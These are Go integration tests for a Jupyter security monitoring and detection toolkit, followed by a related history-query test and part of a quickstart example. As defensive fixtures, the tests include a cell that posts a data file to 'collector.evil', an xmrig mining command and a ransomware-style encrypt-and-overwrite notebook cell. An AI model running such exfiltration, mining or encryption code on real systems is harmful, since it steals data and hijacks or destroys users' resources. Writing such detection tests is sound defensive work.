				if !strings.HasPrefix(line, "sweep:") {
					keep = append(keep, line)
				}
			}
			return strings.Join(keep, "\n")
		}
		if census(out1) != census(out2) {
			t.Fatalf("fleet census not deterministic:\n%s\nvs\n%s", out1, out2)
		}
		for _, want := range []string{"Fleet census: 64 targets, 64 scanned", "findings by check", "worst targets",
			"OSCRP incident summary", "incidents by risk"} {
			if !strings.Contains(out1, want) {
				t.Errorf("census missing %q:\n%s", want, out1)
			}
		}

		ckpt := filepath.Join(work, "sweep.ckpt")
		jsonl := filepath.Join(work, "sweep.jsonl")
		out3, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "16", "--workers", "4", "--seed", "3", "--resume", ckpt, "--jsonl", jsonl)
		if err != nil {
			t.Fatalf("%v\n%s", err, out3)
		}
		out4, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "16", "--workers", "4", "--seed", "3", "--resume", ckpt)
		if err != nil {
			t.Fatalf("%v\n%s", err, out4)
		}
		if !strings.Contains(out4, "(16 resumed)") {
			t.Errorf("second sweep did not resume from checkpoint:\n%s", out4)
		}
		data, err := os.ReadFile(jsonl)
		if err != nil {
			t.Fatal(err)
		}
		if lines := strings.Count(string(data), "\n"); lines != 16 {
			t.Errorf("jsonl stream has %d lines, want 16", lines)
		}
	})

	t.Run("jscan-suites", func(t *testing.T) {
		// A multi-suite deep sweep must stay byte-deterministic for a
		// fixed seed and suite set, including the per-suite histogram
		// and the pipeline alert tally, regardless of worker count.
		census := func(out string) string {
			var keep []string
			for _, line := range strings.Split(out, "\n") {
				if !strings.HasPrefix(line, "sweep:") {
					keep = append(keep, line)
				}
			}
			return strings.Join(keep, "\n")
		}
		args := []string{"--fleet", "12", "--seed", "7", "--suites", "misconfig,nbscan,crypto,intel"}
		out1, err := runTool(t, filepath.Join(bin, "jscan"), append([]string{"--workers", "8"}, args...)...)
		if err != nil {
			t.Fatalf("%v\n%s", err, out1)
		}
		out2, err := runTool(t, filepath.Join(bin, "jscan"), append([]string{"--workers", "2"}, args...)...)
		if err != nil {
			t.Fatalf("%v\n%s", err, out2)
		}
		if census(out1) != census(out2) {
			t.Fatalf("deep census not deterministic:\n%s\nvs\n%s", out1, out2)
		}
		for _, want := range []string{"findings by suite", "nbscan", "crypto", "intel",
			"alerts raised through the rules pipeline", "SC-001-critical-exposure",
			"OSCRP incident summary", "incidents by risk"} {
			if !strings.Contains(out1, want) {
				t.Errorf("deep census missing %q:\n%s", want, out1)
			}
		}

		// An unknown suite name is a usage error that fails fast,
		// before any fleet server is spawned.
		out3, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "4", "--suites", "misconfig,bogus")
		if err == nil {
			t.Fatalf("unknown suite accepted:\n%s", out3)
		}
		if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 2 {
			t.Errorf("unknown suite exit = %v, want usage error (2)", err)
		}
		for _, want := range []string{"unknown suite", "usage", "misconfig"} {
			if !strings.Contains(out3, want) {
				t.Errorf("unknown-suite error missing %q:\n%s", want, out3)
			}
		}
	})

	t.Run("jscan-events-replay", func(t *testing.T) {
		// The census's unified finding stream replays through
		// jsentinel, re-raising the same scan alerts offline.
		events := filepath.Join(work, "findings.jsonl")
		out, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", events)
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		replay, err := runTool(t, filepath.Join(bin, "jsentinel"), "--replay", events)
		if err != nil {
			t.Fatalf("%v\n%s", err, replay)
		}
		for _, want := range []string{"scan_finding=", "SC-001-critical-exposure"} {
			if !strings.Contains(replay, want) {
				t.Errorf("replay missing %q:\n%s", want, replay)
			}
		}
	})

	t.Run("jscan-events-store-replay", func(t *testing.T) {
		// A census recorded into the segmented event store (the
		// default for non-.jsonl --events paths) replays through
		// jsentinel with segment-parallel workers and kind filters,
		// producing the same deterministic report as a serial replay.
		storeDir := filepath.Join(work, "census-store")
		out, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if fi, err := os.Stat(storeDir); err != nil || !fi.IsDir() {
			t.Fatalf("--events did not create a store directory: %v", err)
		}

		// A second census into the same store must refuse, not merge:
		// the stream would disagree with the census just printed.
		dup, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
		if err == nil {
			t.Fatalf("recording over a non-empty store accepted:\n%s", dup)
		}
		if !strings.Contains(dup, "already holds a recorded stream") {
			t.Errorf("refusal message missing:\n%s", dup)
		}

		// A checkpointed rerun replaces the recording instead of
		// refusing: a resumed sweep re-emits the complete stream, so
		// the store must hold exactly one census afterwards.
		res, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel",
			"--resume", filepath.Join(work, "census.ckpt"), "--events", storeDir)
		if err != nil {
			t.Fatalf("checkpointed rerun into existing store refused: %v\n%s", err, res)
		}

		replayArgs := func(extra ...string) []string {
			return append([]string{"--replay", storeDir, "--alerts=false"}, extra...)
		}
		// Census report must be identical between serial and sharded
		// filtered replay — incident lines included: since the core
		// sharding refactor, incident IDs are assigned canonically at
		// snapshot time (first-seen, actor, class), never from alert
		// arrival order, so only wall-clock timing lines are excluded.
		stable := func(out string) string {
			var keep []string
			for _, line := range strings.Split(out, "\n") {
				switch {
				case strings.HasPrefix(line, "store:"),
					strings.HasPrefix(line, "replayed "),
					strings.HasPrefix(line, "Detection report @"):
					continue
				}
				keep = append(keep, line)
			}
			return strings.Join(keep, "\n")
		}
		serial, err := runTool(t, filepath.Join(bin, "jsentinel"),
			replayArgs("--kinds", "scan_finding", "--workers", "1")...)
		if err != nil {
			t.Fatalf("%v\n%s", err, serial)
		}
		sharded, err := runTool(t, filepath.Join(bin, "jsentinel"),
			replayArgs("--kinds", "scan_finding", "--workers", "8")...)
		if err != nil {
			t.Fatalf("%v\n%s", err, sharded)
		}
		if stable(serial) != stable(sharded) {
			t.Fatalf("sharded store replay diverges from serial:\n%s\nvs\n%s", serial, sharded)
		}
		for _, want := range []string{"store:", "segments selected", "frames decoded",
			"skipped undecoded", " events", "tail-loss bytes", "scan_finding=", "security_misconfiguration"} {
			if !strings.Contains(sharded, want) {
				t.Errorf("store replay missing %q:\n%s", want, sharded)
			}
		}
		// A clean store replays with zero tail loss — the stats line is
		// where silent corruption would first surface.
		if !strings.Contains(sharded, "0 tail-loss bytes") {
			t.Errorf("clean store reported tail loss:\n%s", sharded)
		}
		if strings.Contains(stable(sharded), "auth=") {
			t.Errorf("kind filter leaked other kinds:\n%s", sharded)
		}

		// The store is also a valid jdataset input.
		shared := filepath.Join(work, "census-shared.jsonl")
		dout, err := runTool(t, filepath.Join(bin, "jdataset"), "--in", storeDir, "--out", shared)
		if err != nil {
			t.Fatalf("%v\n%s", err, dout)
		}
		if !strings.Contains(dout, "events anonymized") {
			t.Errorf("jdataset store input: %s", dout)
		}

		// An out-of-range time window selects nothing without error.
		empty, err := runTool(t, filepath.Join(bin, "jsentinel"),
			replayArgs("--until", "2000-01-01T00:00:00Z")...)
		if err != nil {
			t.Fatalf("%v\n%s", err, empty)
		}
		if !strings.Contains(empty, "replayed 0 events") {
			t.Errorf("time-filtered replay should match nothing:\n%s", empty)
		}
		// A malformed filter is a usage error, and so is a kind typo —
		// which would otherwise silently match nothing.
		bad, err := runTool(t, filepath.Join(bin, "jsentinel"), replayArgs("--since", "yesterday")...)
		if err == nil {
			t.Fatalf("bad --since accepted:\n%s", bad)
		}
		typo, err := runTool(t, filepath.Join(bin, "jsentinel"), replayArgs("--kinds", "scanfinding")...)
		if err == nil {
			t.Fatalf("kind typo accepted:\n%s", typo)
		}
		for _, want := range []string{"unknown kind", "scan_finding"} {
			if !strings.Contains(typo, want) {
				t.Errorf("kind-typo error missing %q:\n%s", want, typo)
			}
		}
	})

	t.Run("jsentinel-history-query", func(t *testing.T) {
		// extractTable pulls the "top N incidents by risk" block out of
		// any CLI output: the equality contract below compares these
		// blocks byte for byte.
		extractTable := func(out string) string {
			lines := strings.Split(out, "\n")
			for i, line := range lines {
				var n int
				if _, err := fmt.Sscanf(line, "top %d incidents by risk:", &n); err != nil {
					continue
				}
				end := i + 2 + n // header line + column header + n rows
				if end > len(lines) {
					t.Fatalf("truncated incident table:\n%s", out)
				}
				return strings.Join(lines[i:end], "\n")
			}
			t.Fatalf("no incident table in output:\n%s", out)
			return ""
		}

		// A census records a queryable history next to its event store
		// by default; `jsentinel query <store>` answers from it without
		// re-running detection.
		storeDir := filepath.Join(work, "hist-census")
		out, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if !strings.Contains(out, "jscan: history recorded to") {
			t.Errorf("census did not report its history:\n%s", out)
		}
		if fi, err := os.Stat(filepath.Join(storeDir, "history")); err != nil || !fi.IsDir() {
			t.Fatalf("census store has no history/ subdirectory: %v", err)
		}
		qout, err := runTool(t, filepath.Join(bin, "jsentinel"), "query", "--topk", "50", storeDir)
		if err != nil {
			t.Fatalf("query over census history: %v\n%s", err, qout)
		}
		for _, want := range []string{"store stats:", "history stats:", "segments selected", "incidents match"} {
			if !strings.Contains(qout, want) {
				t.Errorf("query output missing %q:\n%s", want, qout)
			}
		}

		// The headline contract at the CLI level: the table a filtered
		// query renders equals the table a full replay renders —
		// byte-identical, not just same incidents.
		tr := workload.StandardMix(31, 400)
		tracePath := filepath.Join(work, "hist-trace.jsonl")
		f, err := os.Create(tracePath)
		if err != nil {
			t.Fatal(err)
		}
		w := trace.NewJSONLWriter(f)
		for _, e := range tr.Events {
			w.Emit(e)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		f.Close()
		histDir := filepath.Join(work, "replay-history")
		rout, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", tracePath, "--alerts=false", "--topk", "50", "--history", histDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, rout)
		}
		if !strings.Contains(rout, "history: recorded to") {
			t.Errorf("replay did not report its history:\n%s", rout)
		}
		hq, err := runTool(t, filepath.Join(bin, "jsentinel"), "query", "--topk", "50", histDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, hq)
		}
		if got, want := extractTable(hq), extractTable(rout); got != want {
			t.Errorf("query table != replay table:\n%s\nvs\n%s", got, want)
		}

		// Filters narrow the table; --alerts lists matching records.
		aq, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"query", "--actor", "203.0.113.66", "--alerts", "--topk", "50", histDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, aq)
		}
		if !strings.Contains(aq, "203.0.113.66") || strings.Contains(extractTable(aq), "mallory") {
			t.Errorf("actor filter not applied:\n%s", aq)
		}
		if !strings.Contains(aq, "alert records match") {
			t.Errorf("--alerts listing missing:\n%s", aq)
		}

		// Malformed filter values and unknown flags are usage errors
		// (exit 2) carrying an example of the wanted shape.
		for _, tc := range []struct {
			args []string
			want string
		}{
			{[]string{"query", "--severity", "bogus", histDir}, "e.g. --severity high"},
			{[]string{"query", "--risk", "bogus", histDir}, "e.g. --risk elevated"},
			{[]string{"query", "--since", "yesterday", histDir}, "RFC3339 time, e.g. 2026-06-01T09:00:00Z"},
			{[]string{"query", "--until", "noon", histDir}, "RFC3339 time, e.g. 2026-06-01T09:00:00Z"},
			{[]string{"query", "--frobnicate", histDir}, "flag provided but not defined"},
			{[]string{"query"}, "usage: jsentinel query"},
		} {
			bad, err := runTool(t, filepath.Join(bin, "jsentinel"), tc.args...)
			if err == nil {
				t.Fatalf("query %v accepted:\n%s", tc.args, bad)
			}
			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 2 {
				t.Errorf("query %v: want exit 2, got %v", tc.args, err)
			}
			if !strings.Contains(bad, tc.want) {
				t.Errorf("query %v error missing %q:\n%s", tc.args, tc.want, bad)
			}
		}
	})

	t.Run("jupyterd-scan", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jupyterd"), "--sloppy", "--addr", "127.0.0.1:0", "--scan")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if !strings.Contains(out, "Authentication disabled") {
			t.Errorf("scan output: %s", out)
		}
	})

	t.Run("jsentinel-replay", func(t *testing.T) {
		// Generate a labelled trace, replay it, expect incidents.
		tr := workload.StandardMix(21, 200)
		tracePath := filepath.Join(work, "events.jsonl")
		f, err := os.Create(tracePath)
		if err != nil {
			t.Fatal(err)
		}
		w := trace.NewJSONLWriter(f)
		for _, e := range tr.Events {
			w.Emit(e)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		f.Close()

		out, err := runTool(t, filepath.Join(bin, "jsentinel"), "--replay", tracePath, "--alerts=false")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		for _, want := range []string{"replayed", "Detection report", "ransomware"} {
			if !strings.Contains(out, want) {
				t.Errorf("replay output missing %q:\n%s", want, out)
			}
		}

		// Sharded replay must see the same trace and still catch the
		// campaign: same event count, same attack classes in the report.
		pout, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", tracePath, "--alerts=false", "--workers", "4", "--batch", "64")
		if err != nil {
			t.Fatalf("parallel replay: %v\n%s", err, pout)
		}
		for _, want := range []string{"workers=4", "Detection report", "ransomware", "cryptomining"} {
			if !strings.Contains(pout, want) {
				t.Errorf("parallel replay output missing %q:\n%s", want, pout)
			}
		}

		// Filters apply to legacy JSONL streams too (streamed through
		// the decoder, never fully buffered).
		fout, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", tracePath, "--alerts=false", "--kinds", "auth")
		if err != nil {
			t.Fatalf("filtered replay: %v\n%s", err, fout)
		}
		if !strings.Contains(fout, "event mix: auth=") {
			t.Errorf("kind-filtered replay mix wrong:\n%s", fout)
		}
		if strings.Contains(fout, "exec=") {
			t.Errorf("kind filter leaked exec events:\n%s", fout)
		}
	})

	t.Run("jdataset", func(t *testing.T) {
		tr := workload.StandardMix(22, 100)
		in := filepath.Join(work, "raw.jsonl")
		f, _ := os.Create(in)
		w := trace.NewJSONLWriter(f)
		for _, e := range tr.Events {
			w.Emit(e)
		}
		_ = w.Flush()
		f.Close()
		outPath := filepath.Join(work, "shared.jsonl")
		out, err := runTool(t, filepath.Join(bin, "jdataset"),
			"--in", in, "--out", outPath, "--deny", "alice", "--deny", "203.0.113.66")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		shared, err := os.ReadFile(outPath)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(shared), `"alice"`) || strings.Contains(string(shared), "203.0.113.66") {
			t.Fatal("identities leaked into shared dataset")
		}
	})

	t.Run("jaudit", func(t *testing.T) {
		// Produce a real audit log through an audited kernel.
		clock := trace.NewFakeClock(time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC))
		log := audit.NewLog(clock)
		tracer := audit.NewTracer(log)
		fs := vfs.New(vfs.WithClock(clock))
		_ = fs.Write("data/x.csv", "setup", []byte("a,b\n1,2\n"))
		mgr := kernel.NewManager(kernel.Config{
			FS: fs, Clock: clock,
			Gateway: kernel.GatewayFunc(func(m, u string, b []byte) (int, []byte, error) {
				return 200, nil, nil
			}),
			HostWrapper: tracer.WrapHost,
			ExecHook:    func(id, u, c string) { tracer.RecordExec(id, u, c) },
		})
		k := mgr.Start("", "mallory")
		if _, err := k.Execute(`w = read_file("data/x.csv")
http_post("http://collector.evil/drop", w)`, nil); err != nil {
			t.Fatal(err)
		}
		logPath := filepath.Join(work, "audit.jsonl")
		if err := os.WriteFile(logPath, audit.MarshalJSONL(log.Records()), 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := runTool(t, filepath.Join(bin, "jaudit"),
			"--log", logPath, "--verify", "--exfiltrated")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		for _, want := range []string{"hash chain intact", "POSSIBLE EXFIL: data/x.csv"} {
			if !strings.Contains(out, want) {
				t.Errorf("jaudit output missing %q:\n%s", want, out)
			}
		}
		// Tamper with the log file: jaudit must refuse.
		tampered := strings.Replace(string(audit.MarshalJSONL(log.Records())),
			"data/x.csv", "innocent.txt", 1)
		_ = os.WriteFile(logPath, []byte(tampered), 0o644)
		out, err = runTool(t, filepath.Join(bin, "jaudit"), "--log", logPath, "--verify")
		if err == nil {
			t.Fatalf("tampered log accepted:\n%s", out)
		}
		if !strings.Contains(out, "CHAIN BROKEN") {
			t.Errorf("tamper output: %s", out)
		}
	})

	t.Run("jscan-notebook", func(t *testing.T) {
		trojan := filepath.Join(work, "trojan.ipynb")
		content := `{"cells": [{"id": "c1", "cell_type": "code", "metadata": {}, "outputs": [],
	     "source": "write_file(f, encrypt(read_file(f), \"k\"))"}],
	    "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`
		if err := os.WriteFile(trojan, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := runTool(t, filepath.Join(bin, "jscan"), "--notebook", trojan)
		if err == nil {
			t.Fatal("trojan notebook scan should exit non-zero")
		}
		if !strings.Contains(out, "ransomware") {
			t.Errorf("scan output: %s", out)
		}
	})

	t.Run("jupyterd-sigterm-flushes-store", func(t *testing.T) {
		// A SIGTERM mid-stream must drain and flush the event store:
		// with the default FlushEvery batching every event below the
		// threshold sits in the write buffer, so an unhandled signal
		// would lose all of them (Recovered non-empty or count short).
		storeDir := filepath.Join(work, "jupyterd-store")
		addr, stop := startDaemon(t, filepath.Join(bin, "jupyterd"),
			"--sloppy", "--addr", "127.0.0.1:0", "--log", storeDir)
		const requests = 9
		for i := 0; i < requests; i++ {
			resp, err := http.Get(fmt.Sprintf("http://%s/api/status?n=%d", addr, i))
			if err != nil {
				t.Fatalf("request %d: %v", i, err)
			}
			resp.Body.Close()
		}
		out := stop()
		if !strings.Contains(out, "shutting down") {
			t.Errorf("missing shutdown message:\n%s", out)
		}
		store, err := evstore.OpenRead(storeDir)
		if err != nil {
			t.Fatalf("open store after SIGTERM: %v", err)
		}
		if loss := store.Recovered(); len(loss) != 0 {
			t.Fatalf("tail loss after clean SIGTERM: %+v", loss)
		}
		if got := store.Events(); got < requests {
			t.Fatalf("store holds %d events, want >= %d (buffered events lost)", got, requests)
		}
	})

	t.Run("jingestd-live-vs-replay", func(t *testing.T) {
		// The ingest acceptance gate, end to end through the real
		// binaries: a recorded multi-tenant ingest session replayed
		// with jsentinel --replay must print a byte-identical
		// top-incidents table to the live run's shutdown report.
		storeDir := filepath.Join(work, "ingest-store")
		tenants := "acme=s3cret-a,globex=s3cret-g"
		mintTok := func(name string) string {
			out, err := runTool(t, filepath.Join(bin, "jingestd"),
				"--tenants", tenants, "--mint", name)
			if err != nil {
				t.Fatalf("mint %s: %v\n%s", name, err, out)
			}
			return strings.TrimSpace(out)
		}
		addr, stop := startDaemon(t, filepath.Join(bin, "jingestd"),
			"--addr", "127.0.0.1:0", "--tenants", tenants, "--store", storeDir, "--top", "5")

		// Each tenant sends a brute-force train (AT-001) and a miner
		// exec (CM-001) from "the same" source address — namespacing
		// must keep them distinct actors and incidents.
		var batch strings.Builder
		for i := 0; i < 10; i++ {
			fmt.Fprintf(&batch, `{"kind":"auth","time":"2026-08-08T12:00:%02dZ","src_ip":"203.0.113.5","op":"password","success":false}`+"\n", i)
		}
		batch.WriteString(`{"kind":"exec","time":"2026-08-08T12:01:00Z","kernel_id":"k-7","user":"miner","code":"os.system('xmrig -o stratum+tcp://pool')","success":true}` + "\n")
		for _, tenant := range []string{"acme", "globex"} {
			req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/ingest",
				strings.NewReader(batch.String()))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("X-Tenant", tenant)
			req.Header.Set("Authorization", "Bearer "+mintTok(tenant))
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatalf("%s: %v", tenant, err)
			}
			body := new(bytes.Buffer)
			_, _ = body.ReadFrom(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%s: ingest status %d: %s", tenant, resp.StatusCode, body)
			}
		}
		live := stop()

		// incidentTable extracts the "top N incidents by risk" table:
		// header line through the last aligned row (jsentinel prints
		// [id] summaries after it; jingestd prints nothing).
		incidentTable := func(out string) string {
			lines := strings.Split(out, "\n")
			start := -1
			for i, l := range lines {
				if strings.HasPrefix(l, "top ") && strings.HasSuffix(l, "incidents by risk:") {
					start = i
					break
				}
			}
			if start == -1 {
				t.Fatalf("no incident table in output:\n%s", out)
			}
			end := start + 1
			for end < len(lines) && lines[end] != "" && !strings.HasPrefix(lines[end], "[") {
				end++
			}
			return strings.Join(lines[start:end], "\n")
		}
		liveTable := incidentTable(live)
		for _, want := range []string{"acme/203.0.113.5", "globex/203.0.113.5", "TENANT"} {
			if !strings.Contains(live, want) {
				t.Errorf("live shutdown report missing %q:\n%s", want, live)
			}
		}

		replay, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", storeDir, "--alerts=false", "--workers", "8")
		if err != nil {
			t.Fatalf("replay: %v\n%s", err, replay)
		}
		if !strings.Contains(replay, "replayed 22 events") {
			t.Errorf("replay should see all 22 recorded events:\n%s", replay)
		}
		if got := incidentTable(replay); got != liveTable {
			t.Fatalf("replay incident table diverges from live run:\n--- live ---\n%s\n--- replay ---\n%s",
				liveTable, got)
		}
	})

	t.Run("jbenchjson", func(t *testing.T) {
		// The CI artifact pipeline: bench text in, machine-readable
		// JSON out, custom ReportMetric units preserved.
		benchText := strings.Join([]string{
			"goos: linux",
			"pkg: repro",
			"BenchmarkIngestSustained/block-engine-8 \t 1\t186131110 ns/op\t 88024 events/sec",
			"BenchmarkStoreReplay/store-filtered-8 \t 50\t 421337 ns/op",
			"PASS",
			"ok  \trepro\t1.9s",
		}, "\n")
		outPath := filepath.Join(work, "bench.json")
		cmd := exec.Command(filepath.Join(bin, "jbenchjson"), "--out", outPath)
		cmd.Stdin = strings.NewReader(benchText)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		data, err := os.ReadFile(outPath)
		if err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Meta       map[string]string `json:"meta"`
			Benchmarks []struct {
				Name    string             `json:"name"`
				NsPerOp float64            `json:"ns_per_op"`
				Metrics map[string]float64 `json:"metrics"`
			} `json:"benchmarks"`
		}
		if err := json.Unmarshal(data, &doc); err != nil {
			t.Fatalf("artifact is not valid JSON: %v\n%s", err, data)
		}
		if len(doc.Benchmarks) != 2 || doc.Meta["goos"] != "linux" {
			t.Fatalf("parsed doc = %+v", doc)
		}
		b0 := doc.Benchmarks[0]
		if b0.Name != "BenchmarkIngestSustained/block-engine" ||
			b0.NsPerOp != 186131110 || b0.Metrics["events/sec"] != 88024 {
			t.Errorf("first benchmark mis-parsed: %+v", b0)
		}

		// Empty input is a loud failure, not an empty artifact.
		cmd = exec.Command(filepath.Join(bin, "jbenchjson"))
		cmd.Stdin = strings.NewReader("PASS\n")
		if out, err := cmd.CombinedOutput(); err == nil {
			t.Fatalf("no-benchmark input accepted:\n%s", out)
		}
	})

	t.Run("jattack-refuses-nonloopback", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jattack"),
			"--target", "192.0.2.1:8888", "--attack", "ransomware")
		if err == nil {
			t.Fatal("non-loopback target accepted")
		}
		if !strings.Contains(out, "refusing non-loopback") {
			t.Errorf("output: %s", out)
		}
	})
}
