// Integration contract for the indexed incident history: a filtered
// query over the recorded history must equal the filtered result of a
// full re-detection pass — byte-identical rendered tables — under any
// worker count, and while the history writer is still live.
package repro_test

import (
	"path/filepath"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/histstore"
	"repro/internal/rules"
	"repro/internal/trace"
	"repro/internal/workload"
)

// detectWithHistory replays tr through a fresh core engine with a
// history recorder attached and returns the engine and the (still
// open, synced) history store.
func detectWithHistory(t *testing.T, tr *workload.Trace, workers int, histDir string, segmentBytes int64) (*core.Engine, *histstore.Store) {
	t.Helper()
	hs, err := histstore.OpenWith(histDir, histstore.OpenReplace, histstore.Options{SegmentBytes: segmentBytes})
	if err != nil {
		t.Fatal(err)
	}
	rec := histstore.NewRecorder(hs)
	opts := core.DefaultOptions()
	opts.OnAlert = rec.OnAlert
	opts.OnIncidentUpdate = rec.OnIncidentUpdate
	eng, err := core.NewEngine(opts)
	if err != nil {
		t.Fatal(err)
	}
	workload.Replay(tr.Events, workers, 256, func(b []trace.Event) {
		eng.ProcessBatch(b)
	})
	if err := rec.Err(); err != nil {
		t.Fatalf("history recording: %v", err)
	}
	// Sync, not Close: the equality below must hold against a live
	// writer, reading the flushed prefix of the active segment.
	if err := hs.Sync(); err != nil {
		t.Fatal(err)
	}
	return eng, hs
}

func TestHistoryQueryEqualsRedetection(t *testing.T) {
	tr := workload.StandardMix(11, 6000)
	queries := []struct {
		name string
		q    histstore.Query
	}{
		{"unfiltered", histstore.Query{}},
		{"min-severity-high", histstore.Query{MinSeverity: rules.SevHigh}},
		{"actor", histstore.Query{Actor: "mallory-rw"}},
		{"class+band", histstore.Query{MinBand: histstore.BandElevated}},
		{"window", histstore.Query{
			Since: time.Date(2026, 6, 1, 9, 10, 0, 0, time.UTC),
			Until: time.Date(2026, 6, 1, 11, 0, 0, 0, time.UTC),
		}},
	}

	var wantTables map[string]string
	for _, workers := range []int{1, 8} {
		histDir := filepath.Join(t.TempDir(), "history")
		// Small segments: the equality must survive segment rotation,
		// with incidents' update chains split across many segments.
		eng, hs := detectWithHistory(t, tr, workers, histDir, 4<<10)

		// Query through a separate read-only open while the writer is
		// still live — the reader-under-writer discipline end to end.
		reader, err := histstore.OpenRead(histDir)
		if err != nil {
			t.Fatal(err)
		}
		tables := map[string]string{}
		for _, qc := range queries {
			fromHistory, qst, err := histstore.QueryIncidents(reader, qc.q)
			if err != nil {
				t.Fatalf("workers=%d %s: %v", workers, qc.name, err)
			}
			fromEngine := histstore.FilterIncidents(eng.Incidents(), qc.q)
			got := core.RenderTopIncidents(fromHistory, len(fromHistory)+1)
			want := core.RenderTopIncidents(fromEngine, len(fromEngine)+1)
			if got != want {
				t.Errorf("workers=%d %s: query table != re-detection table\nquery:\n%s\nre-detection:\n%s",
					workers, qc.name, got, want)
			}
			if len(fromHistory) == 0 && qc.name != "impossible" {
				t.Errorf("workers=%d %s: query matched nothing — vacuous equality", workers, qc.name)
			}
			if qst.SegmentsTotal == 0 {
				t.Errorf("workers=%d %s: history has no segments", workers, qc.name)
			}
			tables[qc.name] = got
		}
		if err := hs.Close(); err != nil {
			t.Fatal(err)
		}

		// The filtered tables themselves must be identical across
		// worker counts, like every other detection artifact.
		if wantTables == nil {
			wantTables = tables
		} else {
			for name, table := range tables {
				if table != wantTables[name] {
					t.Errorf("%s: table differs between workers 1 and 8:\n%s\nvs\n%s",
						name, wantTables[name], table)
				}
			}
		}
	}
}

// TestHistoryQueryPrunesOnRealTrace checks the perf mechanism (not
// just the result): on a multi-segment history from a real workload,
// a selective filter must actually skip segments.
func TestHistoryQueryPrunesOnRealTrace(t *testing.T) {
	tr := workload.StandardMix(11, 6000)
	histDir := filepath.Join(t.TempDir(), "history")
	_, hs := detectWithHistory(t, tr, 8, histDir, 4<<10)
	if err := hs.Close(); err != nil {
		t.Fatal(err)
	}
	reader, err := histstore.OpenRead(histDir)
	if err != nil {
		t.Fatal(err)
	}
	if got := len(reader.Segments()); got < 2 {
		t.Fatalf("history fits one segment (%d); shrink SegmentBytes so pruning is observable", got)
	}
	// The brute-force window: a filter matching only late activity.
	_, qst, err := histstore.QueryIncidents(reader, histstore.Query{Actor: "203.0.113.66"})
	if err != nil {
		t.Fatal(err)
	}
	if qst.SegmentsSelected >= qst.SegmentsTotal {
		t.Errorf("actor filter selected %d/%d segments — index pruned nothing",
			qst.SegmentsSelected, qst.SegmentsTotal)
	}
}
