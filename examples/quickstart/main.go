// Quickstart: boot a monitored Jupyter server, execute a notebook cell
// over the real protocol stack (REST + WebSocket + kernel messaging),
// and print what the network monitor and detection engine saw.
//
// This is the end-to-end tour of the system: the Fig. 2 message flow
// on the wire, the visibility ladder, and a first alert.
package main

import (
	"fmt"
	"log"
	"net"
	"time"

	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/netmon"
	"repro/internal/server"
)

func main() {
	// 1. A hardened server behind a network tap.
	cfg := server.HardenedConfig("quickstart-token")
	srv := server.NewServer(cfg)
	mon := netmon.NewMonitor(netmon.FullVisibility(), nil)
	eng := core.MustEngine()
	mon.Bus().Subscribe(eng) // detection runs on wire-derived events
	srv.Bus().Subscribe(eng) // and on host-derived events

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	addr, err := srv.Serve(mon.WrapListener(ln))
	if err != nil {
		log.Fatal(err)
	}
	defer srv.Close()
	fmt.Printf("server up on %s\n\n", addr)

	// 2. A researcher session: write a notebook, start a kernel,
	// execute a cell over the WebSocket channel.
	c := client.New(addr, "quickstart-token")
	if err := c.PutFile("data/results.csv", "epoch,loss\n1,0.9\n2,0.4\n3,0.2\n"); err != nil {
		log.Fatal(err)
	}
	k, err := c.StartKernel("minilang")
	if err != nil {
		log.Fatal(err)
	}
	kc, err := c.ConnectKernel(k.ID, "alice")
	if err != nil {
		log.Fatal(err)
	}
	defer kc.Close()

	res, err := kc.Execute(`rows = split(read_file("data/results.csv"), "\n")
print("epochs recorded:", len(rows) - 2)`)
	if err != nil {
		log.Fatal(err)
